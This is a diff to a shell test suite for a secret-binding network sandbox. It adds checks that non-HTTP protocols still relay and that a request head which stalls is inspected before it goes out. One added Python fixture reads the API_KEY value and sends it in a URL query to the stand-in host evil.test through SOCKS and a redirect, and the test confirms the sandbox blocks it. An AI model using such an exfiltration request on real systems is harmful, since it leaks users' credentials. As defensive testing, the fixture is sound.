@@ -62,6 +62,46 @@ sb --log-format json -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" https:/
 expect_match "use: recorded as secret.used, with the request line" '"event":"secret.used".*"secret":"API_KEY".*"request":"GET /echo-headers HTTP/1.1"' "$OUT"
 expect_no_match "no event carries the value" "$REAL" "$OUT"
 
+# ---- protocols that are not HTTP keep working with a secret bound ----
+sb --allow allowed.test --ro-bind "$(dirname "$0")/protocols.py:/p.py" -- $PY /p.py
+for via in connect socks; do
+	expect_match "secrets bound, $via: a server that speaks first is relayed at once" "$via server-first: ok banner after [0-9]{1,3} ms" "$OUT"
+	expect_match "secrets bound, $via: a client-first binary or text protocol is relayed at once" "$via client-first: ok echo after [0-9]{1,3} ms and [0-9]{1,3} ms" "$OUT"
+done
+expect_match "secrets bound, connect: the tunnel is not cut after a while" 'connect server-first: ok .*still open after 3.2 s' "$OUT"
+expect_match "secrets bound, transparent: a server that speaks first" 'transparent server-first: ok banner after 1?[0-9]{1,3} ms' "$OUT"
+expect_match "secrets bound, transparent: a client-first protocol" 'transparent client-first: ok echo' "$OUT"
+
+# ---- a request head that stalls is checked when it completes, never relayed unread ----
+cat >"$T_TMP/partial.py" <<'PYEOF'
+import os, socket, sys, time
+ph = os.environ["API_KEY"]
+for via in ("socks", "transparent"):
+    if via == "socks":
+        s = socket.create_connection(("127.0.0.1", 1080), timeout=8)
+        s.sendall(b"\x05\x01\x00")
+        s.recv(2)
+        s.sendall(b"\x05\x01\x00\x03\x09evil.test\x00\x50")
+        s.recv(10)
+    else:
+        s = socket.create_connection(("evil.test", 80), timeout=8)
+    s.sendall(f"GET /partial-{via}?k={ph} HTTP/1.1\r\nHost: evil.test\r\n".encode())
+    time.sleep(3.5)  # longer than the old wait for a tunnel's (3 s) or a redirect's (1 s) name
+    s.sendall(b"Connection: close\r\n\r\n")
+    data = b""
+    try:
+        while chunk := s.recv(4096):
+            data += chunk
+    except OSError:
+        pass
+    print(via, repr(data.split(b"\r\n")[0]), "secret-blocked" if b"secret-blocked" in data else "")
+PYEOF
+chmod 644 "$T_TMP/partial.py"
+sb --ro-bind "$T_TMP/partial.py:/p.py" -- $PY /p.py
+expect_match "a stalled head through SOCKS: checked when complete, the leak blocked" "socks b'HTTP/1.1 403 Forbidden' secret-blocked" "$OUT"
+expect_match "a stalled head redirected: checked when complete, the leak blocked" "transparent b'HTTP/1.1 403 Forbidden' secret-blocked" "$OUT"
+expect_eq "...nothing of either reached evil.test" "0" "$(grep -c '/partial-' "$REQ")"
+
 # ---- the value is nowhere inside ----
 cat >"$T_TMP/hunt.py" <<'PYEOF'
 # Looks for the real value by its SHA-256 only: the value itself never enters this process,
